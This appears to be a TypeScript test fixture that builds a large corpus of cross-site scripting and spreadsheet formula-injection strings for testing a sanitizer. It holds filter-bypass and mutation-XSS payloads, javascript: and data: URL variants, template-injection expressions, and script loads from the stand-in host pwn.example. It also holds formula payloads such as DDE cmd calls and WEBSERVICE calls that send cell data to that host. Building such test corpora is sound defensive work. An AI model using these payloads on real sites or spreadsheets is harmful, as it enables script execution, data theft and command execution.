/**
 * Texts that run as a script, or as a formula, wherever somebody forgets that they are texts. Each
 * names `pwn`. They are put together from their parts; `corpus.test.ts` shows where each one runs.
 */

/** What runs, and when, without anybody touching it. */
const alone = [
  ...['img src=x error', 'svg load', 'body load', 'body pageshow', 'iframe load', 'style load'],
  ...[
    'details open toggle',
    'input autofocus focus',
    'select autofocus focus',
    'script src=x error',
  ],
  ...['textarea autofocus focus', 'button autofocus focusin', 'p autofocus tabindex=0 focus'],
  ...['video src=x error', 'audio src=x error', 'video autoplay src=x loadstart', 'marquee start'],
  ...[
    'video><source error',
    'object data=x error',
    'embed src=x load',
    'input type=image src=x error',
  ],
  ...['link rel=stylesheet href=x error', 'p style=animation-name:x animationstart'],
  ...['p style=transition:1s transitionend', 'svg><image href=x error', 'svg><animate begin'],
].map((words) => words.split(/ (?=\S+$)/) as [element: string, event: string])

/** What a person does to whatever is there. */
const gestures = [
  ...['click', 'dblclick', 'auxclick', 'contextmenu', 'mouseover', 'mouseenter', 'mousemove'],
  ...['mousedown', 'mouseup', 'pointerover', 'pointerdown', 'touchstart', 'wheel', 'scroll'],
  ...['keydown', 'keyup', 'input', 'beforeinput', 'change', 'copy', 'cut', 'paste', 'dragstart'],
]

const mixed = (text: string) =>
  text.replace(/[a-z]/g, (sign, at: number) => (at % 2 === 0 ? sign.toUpperCase() : sign))

/** Ways to write one thing that browsers read alike, and filters do not. */
const writings: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} on${event}=pwn()>`,
  (element, event) => `<${element} on${event}="pwn()"//`,
  (element, event) => `${mixed(`<${element} on${event}`)}='pwn()'>`,
  (element, event) => `<${element.replaceAll(' ', '\t')}\fon${event}\n=\r\npwn\`\`>`,
  (element, event) => `<${element} title=">" on${event}=pwn&#40;&#x29;>`,
  (element, event) =>
    `<${element.replace(/=([^\s>]+)/g, '="$1"').replaceAll(' ', '/')}/on${event}=pwn&lpar;&rpar;>`,
]

/** Ways out of where a text stands: a value, a comment, what ends with its own tag alone. */
const exits = [
  ...['">', "'>", '`>', ' >', '-->', '--!>', ']]>', '?>', '%>', '*/-->'],
  ...[
    'title',
    'style',
    'script',
    'textarea',
    'noscript',
    'template',
    'select',
    'xmp',
    'iframe',
  ].map((name) => `</${name}>`),
  ...['</ScRiPt\n>', '</title/x>', '"></textarea></title></style></script>-->'],
]
const bodies = [
  ...['<script>pwn()</script>', '<svg/onload=pwn()>', '<img src=x onerror=pwn()>'],
  '<a href=javascript:pwn()>x</a>',
]

/** An address that runs, as browsers take it. */
export const runningAddresses: readonly string[] = [
  ...['javascript:pwn()', 'JaVaScRiPt:pwn()', ' \u0001javascript:pwn()', 'java\tscript:pwn()'],
  ...['java\r\nscript:pwn()', 'javascript\n:pwn()', 'javascript://%0apwn()', 'vbscript:pwn()'],
  ...['javascript:void(pwn())', 'data:text/html,<script>pwn()</script>'],
  `data:text/html;base64,${btoa('<script>pwn()</script>')}#pwn`,
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>',
]
/** The same in an attribute, where a browser reads its signs by their names and numbers. */
const spelledAddresses = [
  ...['&#106;avascript:pwn()', '&#x6A;avascript:pwn()', '&#0000106avascript:pwn()'],
  ...['java&Tab;script:pwn()', 'java&NewLine;script:pwn()', 'javascript&colon;pwn&lpar;&rpar;'],
]
const holders: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<form action='${address}'><button>x</button></form>`,
  (address) => `<button form=f formaction="${address}">x</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data='${address}'></object>`,
  (address) => `<math><mi xlink:href="${address}">x</mi></math>`,
  (address) => `<svg><a><animate attributeName=href values='${address}'/></a></svg>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
]

/** Harmless as it came, or to a filter; read anew it is something else. */
const readAnew = [
  ...['svg', 'math'].flatMap((root) => [
    `<${root}></p><style><a title="</style><img src=x onerror=pwn()>">`,
    `<${root}><p><style><!--</style><img title="--><img src=x onerror=pwn()>">`,
    `<${root}><title><template><img src=x onerror=pwn()>`,
    `<${root}><![CDATA[><img src=x onerror=pwn()>]]>`,
    `<${root}><script>pwn&lpar;&rpar;</script></${root}>`,
    `<${root}><desc><noscript><img title="</noscript><img src=x onerror=pwn()>">`,
  ]),
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=pwn()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<template><script>pwn()</script></template>',
  '<template shadowrootmode=open><img src=x onerror=pwn()></template>',
  '<select><style></select><img src=x onerror=pwn()></style>',
  '<textarea><img title="</textarea><img src=x onerror=pwn()>">',
  '<xmp><p title="</xmp><img src=x onerror=pwn()>">',
  '<!--><img src=x onerror=pwn()>-->',
  '<!--<script>--><script>pwn()</script>',
  '<?x ><img src=x onerror=pwn()>?>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<iframe srcdoc="&lt;img src=x onerror=pwn()&gt;"></iframe>',
]

/** Written for who reads them once more: as an address, JSON, a page, in a narrower alphabet. */
const encoded = ['<script>pwn()</script>', '<img src=x onerror=pwn()>'].flatMap((text) => [
  encodeURIComponent(text),
  text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003E'),
  text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3E'),
  text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text.replaceAll('<', '&#60').replaceAll('>', '&#x3e;'),
  text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
])

/** Out of a text of a script, or as what a template works out. */
const expressions = [
  ...["'-pwn()-'", '"-pwn()-"', "';pwn();//", '";pwn();//', "\\';pwn()//", "'+pwn()+'"],
  ...[`\${pwn()}`, '`-pwn()-`', '\u2028pwn()', '\npwn()', '*/pwn()/*', "'};pwn();x={y:'"],
  ...['{{pwn()}}', "{{constructor.constructor('pwn()')()}}", '[[pwn()]]', '<%= pwn() %>'],
  ...["{{[].at.constructor('pwn()')()}}", '#{pwn()}', '{pwn()}', '{{{pwn()}}}', '<%- pwn() -%>'],
]

const loads = [
  ...['<script src=//pwn.example></script>', '<ScRiPt/src=//pwn.example>', '<script>pwn()'],
  ...[
    '<script\n>pwn()</script\n>',
    '<script src=data:,pwn()></script>',
    '<base href=//pwn.example/>',
  ],
  ...['<script type=module>import"//pwn.example"</script>', '<svg><script href=data:,pwn() />'],
  ...['<link rel=stylesheet href=//pwn.example>', '<style>@import"//pwn.example"</style>'],
  ...['<iframe src=//pwn.example>', '<object data=//pwn.example>', '<embed src=//pwn.example>'],
]

export const scripts: readonly string[] = [
  ...new Set([
    ...runningAddresses,
    ...gestures.map((name) => `" on${name}="pwn()`),
    ...loads,
    ...expressions,
    ...alone.flatMap(([element, event]) => writings.map((write) => write(element, event))),
    ...gestures.map((name) => `' on${name}='pwn()`),
    ...readAnew,
    ...exits.flatMap((exit) => bodies.map((body) => exit + body)),
    ...gestures.map((name) => `x on${name}=pwn()`),
    ...encoded,
    ...[...runningAddresses.filter((one) => !/["']/.test(one)), ...spelledAddresses].flatMap(
      (address) => holders.map((hold) => hold(address)),
    ),
  ]),
]

/** What stands before a formula, and is dropped, or ends the cell before it. */
const fronts = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '"',
  'x;',
  'x\t',
  'x\r\n',
  'x|',
  'x;"',
  '\u00A0',
  '\u3000',
]
const signs = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const workings = [
  ...['pwn()', 'HYPERLINK("//pwn.example","x")', "cmd|' /C pwn'!A0", 'SUM(pwn)*2', '1+pwn()'],
  ...['IMPORTXML("//pwn.example","//a")', 'IMPORTDATA("//pwn.example")', 'IMAGE("//pwn.example")'],
  ...['WEBSERVICE("//pwn.example/"&A1)', 'DDE("cmd";"/C pwn";"1")', "MSEXCEL|'\\pwn.exe'!''"],
  ...['CALL("pwn","x","J")', 'EXEC("pwn")', "'file:///etc/pwn'#$x.A1", 'INDIRECT("pwn")'],
]

/** Each front with each sign, and with each working the plain ones. */
export const formulas: readonly string[] = [
  ...new Set([
    ...fronts.flatMap((front) => signs.map((sign) => `${front}${sign}pwn()`)),
    ...workings.flatMap((working) => ['=', '+', '-', '@'].map((sign) => sign + working)),
  ]),
]

/** One after the other, from the one at this place. */
export function scriptsFrom(place: number): () => string {
  let at = place
  return () => scripts[at++ % scripts.length] ?? ''
}

/**
 * Where each text at each place would take too long, the places follow the day, or are those of
 * the day that `SCRIPTS_DAY` names, so that what failed once can be run again.
 */
export const today = Number(process.env.SCRIPTS_DAY ?? Math.floor(Date.now() / 86_400_000))

/** So many places, as far from one another as can be: in as many days, each has been one. */
export function placesOfDay(count: number, day = today): readonly number[] {
  const apart = Math.ceil(scripts.length / count)
  return Array.from({ length: count }, (_, at) => (day + at * apart) % scripts.length)
}
